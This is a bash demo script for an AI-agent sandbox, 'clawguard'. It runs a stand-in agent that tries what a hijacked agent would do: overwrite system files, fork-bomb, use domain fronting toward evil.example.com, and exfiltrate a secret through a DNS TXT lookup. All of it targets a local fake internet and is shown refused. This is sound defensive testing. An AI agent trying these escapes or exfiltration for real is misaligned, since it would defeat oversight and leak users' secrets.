#!/usr/bin/env bash
# `sudo make demo`: run a stand-in agent in a clawguard sandbox on the built-in
# openclaw profile and show what the sandbox allows and refuses. Everything
# stays on this machine: the image is built locally, and the "internet" the
# agent sees (api.anthropic.com, api.openai.com, evil.example.com and a DNS
# server) is a network namespace on 198.18.100.0/24 that this script creates
# and removes; clawguard's DNS gate is pointed at it with --dns-upstream.
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$PWD
CG="$ROOT/bin/clawguard"
SOCK=/run/containerd/containerd.sock
DEMO=${DEMO_DIR:-/tmp/clawguard-demo}
IMAGE=docker.io/clawguard/demo-agent:latest
NAME=openclaw
INET=cgdemo-inet
DNS=198.18.100.53
# Every clawguard call resolves through the fake internet's DNS server.
cg() { "$CG" --dns-upstream "$DNS" "$@"; }
# clawguard's kernel objects on this host: counted before and after, so the
# demo can prove it left none of its own.
leftovers() {
	echo "$(iptables-save | grep -c -- '-A CG-\|:CG-' || true) rules/chains, $(ipset list -n | grep -c '^cg-' || true) sets, $(ip netns list | grep -c '^cg-' || true) namespaces"
}
BEFORE="$(leftovers)"

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

# 1. containerd: use the running one, else start it (systemd if present).
if ! ctr -a "$SOCK" version >/dev/null 2>&1; then
	if [ -d /run/systemd/system ]; then
		say "starting containerd (systemctl)"
		systemctl start containerd
	else
		say "starting containerd (no systemd here; log in /var/log/clawguard-demo-containerd.log)"
		nohup containerd >/var/log/clawguard-demo-containerd.log 2>&1 &
	fi
	for _ in $(seq 100); do ctr -a "$SOCK" version >/dev/null 2>&1 && break; sleep 0.1; done
	ctr -a "$SOCK" version >/dev/null
fi

# A sandbox left by an interrupted demo is stopped first.
cg stop --timeout 2s "$NAME" >/dev/null 2>&1 || true

# 2. The stand-in agent: busybox, the cgprobe helper and a script that tries
#    what a hijacked agent would.
say "building the demo agent image locally ($IMAGE)"
rm -rf "$DEMO"
mkdir -p "$DEMO"/{workspace,config,secrets}
cat >"$DEMO/agent.sh" <<'AGENT'
#!/bin/sh
say() { echo "[agent] $*"; }
# try WHAT CMD...: run CMD and report whether the sandbox allowed it.
try() { what=$1; shift; if out=$("$@" 2>&1); then say "$what: ALLOWED"; else say "$what: refused (${out##*: })"; fi; }
# reach WHAT HOST:PORT: a TCP connection through the sandbox's egress rules.
reach() { if cgprobe connect "$2" 2s | grep -q '"OK": true'; then say "$1: ALLOWED"; else say "$1: refused"; fi; }
gw=$(awk '/^nameserver/ {print $2}' /etc/resolv.conf)
say "I am $(id)"
echo "notes from the agent" > /workspace/hello.txt && say "write /workspace/hello.txt: ok"
say "read /run/secrets/anthropic_api_key: $(wc -c < /run/secrets/anthropic_api_key) bytes (value not shown)"
try "overwrite /bin/sh" sh -c 'echo x > /bin/sh'
try "write /etc/passwd" sh -c 'echo x >> /etc/passwd'
cp /bin/busybox /tmp/bb
try "run a binary copied to /tmp" /tmp/bb true
say "fork bomb: $(cgprobe forkbomb | tr -d '\n ')"
say "syscalls refused with EPERM (ptrace, mount, unshare, bpf, keyctl, io_uring, ...): $(cgprobe syscalls | grep -c '"EPERM"')"
# tls WHAT HOST:PORT SERVER-NAME: a TLS handshake through the name gate.
tls() { if cgprobe tls "$2" "$3" 2s | grep -q '"OK": true'; then say "$1: ALLOWED"; else say "$1: refused"; fi; }
tls "HTTPS to api.anthropic.com (allowlisted)" api.anthropic.com:443 api.anthropic.com
tls "HTTPS to api.anthropic.com's address naming evil.example.com (domain fronting)" api.anthropic.com:443 evil.example.com
reach "HTTP to api.anthropic.com (port not allowlisted)" api.anthropic.com:80
say "look up evil.example.com (not allowlisted): $(cgprobe resolve evil.example.com | tr -d '\n ')"
reach "HTTPS to 198.18.100.66 by address (not allowlisted)" 198.18.100.66:443
say "exfiltrate through DNS (TXT c2VjcmV0.evil.example.com): $(cgprobe dns "$gw:53" c2VjcmV0.evil.example.com TXT | tr -d '\n ')"
say "ask a DNS server of my own choosing: $(cgprobe dns 198.18.100.53:53 api.anthropic.com A | tr -d '\n ')"
say "idle now; clawguard stop sends SIGTERM"
trap 'say "SIGTERM received, exiting"; exit 0' TERM
while :; do sleep 1 & wait $!; done
AGENT
"$ROOT/bin/cgimage" -ref "$IMAGE" -o "$DEMO/image.tar" -probe "$ROOT/bin/cgprobe" \
	-file "usr/local/bin/demo-agent=$DEMO/agent.sh:755" -cmd /usr/local/bin/demo-agent
ctr -a "$SOCK" -n clawguard images import "$DEMO/image.tar" >/dev/null

# 3. A project folder the way a user keeps one, laid out by `profile init`:
#    OpenClaw's hardened configuration (read-only in the sandbox), the
#    allowlist change log, a workspace and a state directory owned by the
#    agent's user, private secrets.
say "clawguard profile init $DEMO"
"$CG" profile init "$DEMO"
chown 1000:1000 "$DEMO/workspace"
chmod 700 "$DEMO/secrets"
printf 'sk-ant-demo-not-a-real-key' >"$DEMO/secrets/anthropic_api_key"
chmod 600 "$DEMO/secrets/anthropic_api_key"

# 4. The fake internet: a namespace joined to the host by a veth pair, with a
#    DNS server and web servers; only its own ranges are routed to it.
say "starting a fake internet in network namespace $INET (198.18.100.0/24)"
PIDS=()
cleanup_inet() {
	# `ip netns exec` forks, so the servers are found by namespace: every
	# process in it is one this script started.
	for p in "${PIDS[@]}" $(ip netns pids "$INET" 2>/dev/null); do kill "$p" 2>/dev/null || true; done
	ip netns del "$INET" 2>/dev/null || true
	ip link del cgdemo0 2>/dev/null || true
	ip route del 169.254.169.254/32 via 198.18.1.2 2>/dev/null || true
}
ip netns del "$INET" 2>/dev/null || true
if ip route show | grep -qE '^(198\.18\.(1\.0/30|100\.0/24)|169\.254\.169\.254) '; then
	echo "demo: 198.18.1.0/30, 198.18.100.0/24 or 169.254.169.254 is already routed on this host; not touching it" >&2
	exit 1
fi
ip netns add "$INET"
ip link add cgdemo0 type veth peer name cgdemo1
ip link set cgdemo1 netns "$INET"
ip addr add 198.18.1.1/30 dev cgdemo0
ip link set cgdemo0 up
ip route add 198.18.100.0/24 via 198.18.1.2
# The cloud metadata address too: verify tries it from inside the sandbox,
# and nothing the demo does may leave this machine, even if a rule were wrong.
ip route add 169.254.169.254/32 via 198.18.1.2
ip netns exec "$INET" sh -c 'ip link set lo up; ip addr add 198.18.1.2/30 dev cgdemo1; ip link set cgdemo1 up;
	ip route add default via 198.18.1.1; ip addr add 198.18.100.0/24 dev lo'
ip netns exec "$INET" "$ROOT/bin/cgprobe" serve-dns "$DNS:53" \
	api.anthropic.com=198.18.100.10 api.openai.com=198.18.100.11 evil.example.com=198.18.100.66 >/dev/null 2>&1 &
PIDS+=($!)
# Port 80 plain; 443 a CDN's edge in miniature, serving every name over TLS
# from every address, as the real ones do.
ip netns exec "$INET" "$ROOT/bin/cgprobe" listen 80 >/dev/null 2>&1 &
PIDS+=($!)
ip netns exec "$INET" "$ROOT/bin/cgprobe" serve-cdn 443 api.anthropic.com api.openai.com evil.example.com >/dev/null 2>&1 &
PIDS+=($!)
trap cleanup_inet EXIT
sleep 0.3
echo "from the host (no clawguard rule in the way): $("$ROOT/bin/cgprobe" connect 198.18.100.66:443 | tr -d '\n ')"
echo "from the host, evil.example.com at api.anthropic.com's address: $("$ROOT/bin/cgprobe" tls 198.18.100.10:443 evil.example.com 2s | tr -d '\n ')"

say "clawguard run --image $IMAGE   (built-in openclaw profile, from $DEMO)"
cd "$DEMO"
cg run --image "$IMAGE" >"$DEMO/run.log" 2>&1 &
RUN_PID=$!
trap 'kill -INT $RUN_PID 2>/dev/null || true; wait $RUN_PID 2>/dev/null; cleanup_inet' EXIT
for _ in $(seq 100); do grep -q "running (pid" "$DEMO/run.log" && break; sleep 0.1; done
sleep 8 # let the agent go through its attempts
cat "$DEMO/run.log"

say "clawguard status"
cg status

say "clawguard status --rules $NAME"
cg status --rules "$NAME"

say "clawguard verify $NAME --blocked-probe 198.18.100.66:443"
cg verify "$NAME" --blocked-probe 198.18.100.66:443 || echo "demo: verify FAILED (see above)"

say "checks from outside"
echo "workspace on the host:   $(cat "$DEMO/workspace/hello.txt")"
echo "identity inside:         $(cg exec "$NAME" -- cgprobe identity | tr -d '\n ' )"
echo "limits inside:           $(cg exec "$NAME" -- cgprobe limits | tr -d '\n ')"

say "clawguard stop $NAME"
cg stop "$NAME"
wait $RUN_PID || true
trap cleanup_inet EXIT
tail -2 "$DEMO/run.log"
# The claim below is checked, not assumed: no chain, set, namespace or link of
# clawguard's may be left (the firewall guard once put the base rules back
# after the last sandbox had gone).
left="$(leftovers)"
if [ "$left" != "$BEFORE" ]; then
	echo "demo: FAILED: clawguard's kernel objects were $BEFORE before the demo and are $left now" >&2
	exit 1
fi
say "demo done: the sandbox and everything it created are gone ($(cg status | head -1); kernel objects as before: $left)"
